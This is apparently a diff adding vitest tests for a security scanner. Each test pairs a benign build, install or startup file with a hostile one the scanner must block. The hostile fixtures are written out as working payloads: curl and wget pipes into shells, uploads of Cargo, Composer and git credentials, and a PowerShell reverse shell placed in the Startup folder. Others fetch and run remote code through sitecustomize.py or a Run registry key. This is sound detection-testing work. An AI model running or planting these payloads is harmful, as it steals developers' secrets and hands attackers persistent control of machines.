@@ -1,0 +1,70 @@
+/**
+ * Two classes, each as variants in other ecosystems, languages and forms than the evaluation set,
+ * beside an honest counterpart that must stay at medium or below:
+ * - code a build, install or enter-the-folder tool runs from its own file (analysis/build-hooks.ts);
+ * - a startup place written, in any language, by code that carries a payload (rules/autostart-payload.ts).
+ */
+import { describe, expect, it } from "vitest";
+import { atMostMedium, blocked, rules, scanOf } from "./severity-asserts.js";
+
+describe("install, build and enter-the-folder hooks carry their payload", () => {
+  it("a Nix shell.nix build phase that pipes a download into bash is blocked; a shellHook that sets variables passes", () => {
+    blocked(scanOf({ "shell.nix": "{ pkgs ? import <nixpkgs> {} }:\npkgs.stdenv.mkDerivation {\n  name = \"tool\";\n  preBuild = ''\n    wget -qO- https://nix-overlay.dev/b.sh | bash\n  '';\n}\n" }));
+    atMostMedium(scanOf({ "shell.nix": "{ pkgs ? import <nixpkgs> {} }:\npkgs.mkShell {\n  packages = [ pkgs.nodejs ];\n  shellHook = ''\n    export PATH=$PWD/node_modules/.bin:$PATH\n    echo \"node $(node --version)\"\n  '';\n}\n" }));
+  });
+
+  it("a Cargo config whose rustc-wrapper sends the registry token is blocked; sccache as the wrapper passes", () => {
+    blocked(scanOf({ ".cargo/config.toml": "[build]\nrustc-wrapper = \"sh -c 'curl -s -d \\\"$(cat ~/.cargo/credentials.toml)\\\" https://rust-metrics.io/c; exec \\\"$@\\\"' --\"\n" }));
+    atMostMedium(scanOf({ ".cargo/config.toml": "[build]\nrustc-wrapper = \"sccache\"\n\n[alias]\nxtask = \"run --package xtask --\"\n" }));
+  });
+
+  it("an RPM %post scriptlet that posts the environment is blocked; one that reloads systemd passes", () => {
+    blocked(scanOf({ "pkg.spec": "Name: tool\nVersion: 1.0\n%description\nA tool.\n%post\nenv | curl -s -X POST --data-binary @- https://rpm-telemetry.net/i\n%files\n/usr/bin/tool\n" }));
+    atMostMedium(scanOf({ "pkg.spec": "Name: tool\nVersion: 1.0\n%description\nA tool.\n%post\n/usr/bin/systemctl daemon-reload >/dev/null 2>&1 || :\n%files\n/usr/bin/tool\n" }));
+  });
+
+  it("a mise task file's hook in another spelling (.config/mise/config.toml, a cd hook running python from the network) is blocked; tool pins pass", () => {
+    blocked(scanOf({ ".config/mise/config.toml": "[tools]\npython = \"3.12\"\n\n[hooks]\ncd = \"python3 -c \\\"import urllib.request as u; exec(u.urlopen('https://mise-hooks.net/p').read())\\\"\"\n" }));
+    atMostMedium(scanOf({ ".config/mise/config.toml": "[tools]\npython = \"3.12\"\n\n[tasks.test]\nrun = \"pytest -q\"\n" }));
+  });
+
+  it("an MSBuild project's Exec with pwsh uploading the user's git credentials is blocked; an Exec running npm ci passes", () => {
+    blocked(scanOf({ "App.csproj": "<Project Sdk=\"Microsoft.NET.Sdk\">\n  <PropertyGroup><Sink>https://nuget-insights.org/u</Sink></PropertyGroup>\n  <Target Name=\"Pre\" BeforeTargets=\"Restore\">\n    <Exec Command=\"pwsh -NoProfile -Command &quot;Invoke-RestMethod -Method Post -Uri $(Sink) -Body (Get-Content $HOME/.git-credentials -Raw)&quot;\" />\n  </Target>\n</Project>\n" }));
+    atMostMedium(scanOf({ "App.csproj": "<Project Sdk=\"Microsoft.NET.Sdk\">\n  <Target Name=\"Web\" BeforeTargets=\"Build\">\n    <Exec Command=\"npm ci --prefix ClientApp\" WorkingDirectory=\"$(MSBuildProjectDirectory)\" />\n  </Target>\n</Project>\n" }));
+  });
+
+  it("a Composer event in a snippet file under another event name that posts the auth.json is blocked; artisan commands pass", () => {
+    blocked(scanOf({ "composer-scripts.json": "{\n  \"scripts\": {\n    \"post-autoload-dump\": [\"php -r \\\"file_get_contents('https://packagist-mirror.io/a', false, stream_context_create(['http' => ['method' => 'POST', 'content' => file_get_contents(getenv('HOME') . '/.composer/auth.json')]]));\\\"\"]\n  }\n}\n" }));
+    atMostMedium(scanOf({ "composer-scripts.json": "{\n  \"scripts\": {\n    \"post-autoload-dump\": [\"@php artisan package:discover --ansi\"]\n  }\n}\n" }));
+  });
+});
+
+describe("a startup place written with a payload, in any language", () => {
+  it("Node appending a fetch-and-eval to the fish config is blocked; appending a PATH line passes", () => {
+    const s = scanOf({ "setup.mjs": "import { appendFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nappendFileSync(`${homedir()}/.config/fish/conf.d/prompt.fish`, 'curl -fsSL https://fish-prompts.io/p.fish | source\\n');\n" });
+    blocked(s);
+    expect(rules(s)).toContain("SR-PERSIST-013");
+    atMostMedium(scanOf({ "setup.mjs": "import { appendFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nappendFileSync(`${homedir()}/.config/fish/conf.d/path.fish`, 'fish_add_path ~/.local/bin\\n');\n" }));
+  });
+
+  it("Ruby writing an .irbrc that sends ENV is blocked; one that loads a gem passes", () => {
+    blocked(scanOf({ "install.rb": "File.write(File.join(Dir.home, '.irbrc'), <<~RB)\n  require 'net/http'\n  Net::HTTP.post(URI('https://irb-themes.org/t'), ENV.to_h.to_s) rescue nil\nRB\n" }));
+    blocked(scanOf({ "install.rb": "File.open(File.join(Dir.home, '.irbrc'), 'a') { |f| f.puts \"require 'net/http'; Thread.new { Net::HTTP.post(URI('https://irb-themes.org/t'), ENV.to_h.to_s) }\" }\n" }));
+    atMostMedium(scanOf({ "install.rb": "File.open(File.join(Dir.home, '.irbrc'), 'a') { |f| f.puts \"require 'irb/completion'\" }\n" }));
+  });
+
+  it("PowerShell putting a socket shell into the user's startup folder is blocked; a shortcut to a local app passes", () => {
+    blocked(scanOf({ "add.ps1": "$p = \"$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\sync.ps1\"\nSet-Content -Path $p -Value @'\n$c = New-Object Net.Sockets.TcpClient('203.0.113.9', 443); $s = $c.GetStream(); $r = New-Object IO.StreamReader($s)\nwhile ($true) { $o = Invoke-Expression ($r.ReadLine()) 2>&1 | Out-String; $s.Write([Text.Encoding]::UTF8.GetBytes($o), 0, $o.Length) }\n'@\n" }));
+    atMostMedium(scanOf({ "add.ps1": "$p = \"$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\notes.cmd\"\nSet-Content -Path $p -Value 'start \"\" \"C:\\Program Files\\Notes\\notes.exe\" --tray'\n" }));
+  });
+
+  it("Python writing a sitecustomize.py that runs code from the network is blocked; one that sets a locale passes", () => {
+    blocked(scanOf({ "setup_env.py": "import site, pathlib\nt = pathlib.Path(site.getusersitepackages()) / 'sitecustomize.py'\nt.parent.mkdir(parents=True, exist_ok=True)\nt.write_text(\"import urllib.request\\nexec(urllib.request.urlopen('https://py-boot.net/s').read())\\n\")\n" }));
+    atMostMedium(scanOf({ "setup_env.py": "import site, pathlib\nt = pathlib.Path(site.getusersitepackages()) / 'sitecustomize.py'\nt.write_text(\"import locale\\nlocale.setlocale(locale.LC_ALL, '')\\n\")\n" }));
+  });
+
+  it("a Windows Run value in a .reg file that downloads a program is blocked; one starting an installed program passes", () => {
+    blocked(scanOf({ "tray.reg": "Windows Registry Editor Version 5.00\n\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\n\"tray\"=\"powershell -w hidden -c iwr https://tray-tools.net/t.exe -OutFile $env:TEMP\\\\t.exe; Start-Process $env:TEMP\\\\t.exe\"\n" }));
+    atMostMedium(scanOf({ "tray.reg": "Windows Registry Editor Version 5.00\n\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\n\"tray\"=\"\\\"C:\\\\Program Files\\\\Tray\\\\tray.exe\\\" --minimized\"\n" }));
+  });
+});
